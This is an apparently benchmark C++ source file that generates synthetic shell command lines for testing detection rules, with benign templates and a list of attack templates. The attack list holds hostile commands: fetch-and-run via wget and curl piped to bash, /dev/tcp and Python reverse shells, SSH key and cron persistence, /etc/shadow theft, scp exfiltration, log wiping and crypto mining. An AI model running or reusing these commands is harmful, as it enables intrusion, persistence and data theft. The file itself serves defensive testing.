// SPDX-License-Identifier: Apache-2.0
#include "texts.hpp"

#include <array>
#include <charconv>
#include <cstring>

namespace ttp::benchmark {

namespace {

constexpr std::array words = std::to_array<std::string_view>(
    {"alpha",    "amber",   "anchor", "april",  "atlas",   "autumn",  "badge",   "basket",
     "beacon",   "birch",   "border", "bottle", "branch",  "bridge",  "bronze",  "bucket",
     "butter",   "cabin",   "candle", "canvas", "carbon",  "castle",  "cedar",   "cherry",
     "circle",   "clover",  "cobalt", "copper", "corner",  "cotton",  "crystal", "dahlia",
     "delta",    "desert",  "dinner", "dragon", "eagle",   "east",    "ember",   "engine",
     "falcon",   "feather", "fennel", "ferry",  "field",   "finch",   "flint",   "forest",
     "fossil",   "frost",   "galaxy", "garden", "garnet",  "ginger",  "glacier", "golden",
     "granite",  "gravel",  "harbor", "hazel",  "heron",   "hollow",  "honey",   "hornet",
     "indigo",   "island",  "ivory",  "jasper", "jungle",  "juniper", "kettle",  "lagoon",
     "lantern",  "laurel",  "lemon",  "lilac",  "linen",   "lotus",   "lunar",   "magnet",
     "mango",    "maple",   "marble", "meadow", "melon",   "mercury", "meteor",  "mint",
     "mirror",   "monsoon", "moss",   "nectar", "nickel",  "north",   "nutmeg",  "oasis",
     "ocean",    "olive",   "onyx",   "opal",   "orange",  "orbit",   "orchid",  "otter",
     "oyster",   "paper",   "pebble", "pepper", "pine",    "planet",  "plum",    "pocket",
     "pollen",   "prairie", "puzzle", "quartz", "quill",   "rabbit",  "raven",   "ribbon",
     "river",    "rocket",  "rose",   "saddle", "saffron", "sage",    "salmon",  "sand",
     "sapphire", "shadow",  "silver", "slate",  "spruce",  "summer",  "sunset",  "thistle",
     "thunder",  "timber",  "topaz",  "tulip",  "tundra",  "valley",  "vanilla", "velvet",
     "violet",   "walnut",  "water",  "willow", "winter",  "yarrow",  "zephyr"});

/// None of them gets a tag of the shipped rules, not even one that only informs.
constexpr std::string_view plain_lines = R"lines(
grep -rn "{w} {w}" src/{w}/ --include="*.c" | sort -k{d}
nano notes-{w}-{n}.txt
mkdir -p build/{w}/{w}-{n}
cp -p {w}-{n}.cfg {w}-{n}.cfg.orig
mv report-{n}.csv reports/{w}/{n}.csv
git checkout -b {w}/{w}-{n}
make -j{d} {w}-{n} VERBOSE=1
cmake -S {w} -B build-{n} -DCMAKE_BUILD_TYPE=Release
ninja -C build-{n} {w}_test
sed -n '{d},{n}p' {w}/{w}.yaml
awk '{ sum += ${d} } END { print sum }' {w}-{n}.tsv
sort -u {w}-{n}.txt | wc -l
cut -d, -f{d} {w}{n}.csv | sort | uniq -c | sort -rn
diff -u {w}-{n}.conf {w}-{w}.conf
echo "{w} {w} {n} done"
printf '%s\n' {w} {w}-{n}
mysql {w} -e "SHOW CREATE TABLE {w}_{n}"
cargo test -p {w}-{w} {w}_{n}
go test ./{w}/{w}{n} -run Test{w}
pytest tests/{w}/test_{w}_{n}.py -k {w}
du -sh /srv/{w}/{n}
tar -tzf {w}-{n}.tar.gz | head -n {d}
zcat {w}.{n}.log.gz | grep -c {w}
journalctl -u {w}@{n} --since yesterday
touch {w}/{w}-{n}.lock
ln -s ../{w}/{w}-{n} current
head -c {n} {w}/{w}.bin | md5sum
jq '.{w}[] | select(.{w} == {n})' {w}.json
date -d "{n} days ago" +%F
for f in {w}/*.{w}; do gzip -t "$f" || echo "{n} $f"; done
test -f {w}/{w}.{n} && echo {w}
wc -l {w}/{w}_{n}.txt
screen -r {w}{n}
export {w}_{w}={n}
psql {w}_{n} < schema/{w}-{n}.sql
git log --oneline --no-merges -n {d} -- {w}/{w}_{n}.cpp
git diff HEAD~{d} -- {w}/{w}{n}.py {w}/{w}.py
git commit -q -m "{w}: {w} the {w} of {w} and {w}, see {n}"
docker logs --tail {n} {w}-{w}-{d}
docker build -t registry.example.net/{w}/{w}:{n} {w}/
kubectl -n {w} rollout status deploy/{w}-{n} --timeout={n}s
psql -d {w} -c 'SELECT {w}, count(*) FROM {w}_{n} WHERE {w} > {d} GROUP BY {w} ORDER BY 2'
npm run {w}:{w} -- --port {n} --config config/{w}.{n}.json
pytest -q tests/{w}/test_{w}_{n}.py -k "{w} and not {w}"
python3 -m {w}.{w} --limit {n} --out {w}/{w}.json
grep -n "{w} {w}" {w}/{w}-{n}.conf
tail -n {n} {w}/{w}.log | sort | uniq -c
make -C {w}/{w}-{n} -j{d} clean all
cat {w}/{w}-{n}.txt
vi {w}-{n}.ini
helm -n {w} upgrade {w}-{n} charts/{w} --set {w}.{w}={n} --set image.tag={n}
terraform plan -target=module.{w}.{w}_{n} -out={w}-{n}.plan
protoc --proto_path={w} --cpp_out=gen/{w} {w}/{w}_{n}.proto
ffmpeg -i {w}-{n}.mov -vf scale={n}:-1 {w}/{w}.mp4
bundle exec rails generate migration Add{w}To{w} {w}_{n}:integer
composer require {w}/{w}-{n}
convert {w}-{n}.png -resize {n}x{n} thumbs/{w}/{n}.png
pandoc {w}/{w}-{n}.md -o out/{w}.pdf --toc
redis-cli -n {d} GET {w}:{w}:{n}
mvn -q -pl {w}/{w}-{n} test -Dtest={w}Test
rustc --edition 2021 {w}/{w}_{n}.rs
)lines";

/// Each gets one to five tags of the shipped rules that are written by default.
constexpr std::string_view attack_lines = R"lines(
wget http://203.0.113.{o}/{w}/{w}{n}.sh -O /tmp/{w}{n}; chmod 777 /tmp/{w}{n}; /tmp/{w}{n}
curl -s http://198.51.100.{o}:{n}/{w}.sh | bash
cat /etc/passwd | grep {w}{n}
uname -a; nproc; echo {w}{n}
chmod +x /tmp/.{w}{n} && nohup /tmp/.{w}{n} >/dev/null 2>&1 &
echo "ssh-rsa AAAAB3NzaC1yc2E{w}{n} {w}" >> ~/.ssh/authorized_keys
bash -i >& /dev/tcp/203.0.113.{o}/{n} 0>&1
useradd -m -s /bin/bash {w}{n}
(crontab -l; echo "*/{d} * * * * /tmp/{w}{n}") | crontab -
/bin/busybox tftp -g -r {w}{n} 198.51.100.{o}
history -c; rm -f ~/.bash_history /var/log/{w}{n}.log
iptables -F; ufw disable; echo {n}
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.{o}",{n}));pty.spawn("/bin/sh")'
./xmrig -o stratum+tcp://{w}.example.net:{n} -u {w} --donate-level {d}
cat /etc/shadow > /tmp/{w}{n}
find / -perm -4000 -name "{w}{n}" 2>/dev/null
scp -r /srv/{w}{n} {w}@203.0.113.{o}:/tmp/
nmap -sS -p {n} 192.0.2.{o}
sudo -l; sudo su - {w}{n}
echo {w}:{n} | chpasswd
tar czf /tmp/{w}{n}.tgz /home/{w}/.ssh
pkill -9 {w}{n}; pkill xmrig
ps aux | grep {w}{n}
netstat -antp | grep {n}
ls -la /root/.ssh/{w}{n}
)lines";

}  // namespace

Texts::Texts() : plain_(compile(plain_lines)), attack_(compile(attack_lines)) {}

std::vector<Texts::Template> Texts::compile(std::string_view lines) {
  std::vector<Template> result;
  while (!lines.empty()) {
    const std::size_t end = lines.find('\n');
    const std::string_view line = lines.substr(0, end);
    lines.remove_prefix(end + 1);
    if (line.empty()) continue;
    Template& pieces = result.emplace_back(1);
    for (std::size_t i = 0; i < line.size(); ++i) {
      const bool is_slot = line[i] == '{' && i + 2 < line.size() && line[i + 2] == '}' &&
                           std::string_view("wndo").find(line[i + 1]) != std::string_view::npos;
      if (is_slot) {
        pieces.back().slot = line[i + 1];
        pieces.emplace_back();
        i += 2;
      } else {
        if (line[i] == '"' || line[i] == '\\') pieces.back().literal += '\\';
        pieces.back().literal += line[i];
      }
    }
  }
  return result;
}

char* Texts::write(Sort sort, Random& random, char* to) const {
  const std::vector<Template>& templates = sort == Sort::plain ? plain_ : attack_;
  const auto count = static_cast<std::uint32_t>(templates.size());
  for (const Piece& piece : templates[random.below(count)]) {
    std::memcpy(to, piece.literal.data(), piece.literal.size());
    to += piece.literal.size();
    switch (piece.slot) {
      case 'w': {
        const std::string_view text = word(random.next() >> 32);
        std::memcpy(to, text.data(), text.size());
        to += text.size();
        break;
      }
      case 'n':
        to = write_number(1000 + random.below(99'000), to);
        break;
      case 'd':
        to = write_number(2 + random.below(8), to);
        break;
      case 'o':
        to = write_number(1 + random.below(254), to);
        break;
      default:
        break;
    }
  }
  return to;
}

void Texts::append(Sort sort, Random& random, std::string& out, bool is_json) const {
  std::array<char, max_bytes> text;
  const char* end = write(sort, random, text.data());
  for (const char* at = text.data(); at != end; ++at) {
    if (!is_json && *at == '\\') ++at;
    out += *at;
  }
}

std::string_view Texts::word(std::uint64_t number) {
  return words[number % words.size()];
}

char* write_number(std::uint64_t number, char* to) {
  constexpr std::size_t most_digits = 20;
  return std::to_chars(to, to + most_digits, number).ptr;
}

char* write_uuid(std::uint64_t number, char* to) {
  static constexpr char digits[] = "0123456789abcdef";
  constexpr std::size_t groups = 8;  // of four digits; dashes make them 8-4-4-4-12
  const std::array<std::uint64_t, 2> bits = {Random::mix(number), Random::mix(~number)};
  for (std::size_t group = 0; group < groups; ++group) {
    if (group >= 2 && group <= 5) *to++ = '-';
    const std::uint64_t half = bits[group / 4];
    for (std::size_t digit = 0; digit < 4; ++digit) {
      *to++ = digits[(half >> (60 - 4 * (4 * (group % 4) + digit))) & 15];
    }
  }
  return to;
}

}  // namespace ttp::benchmark
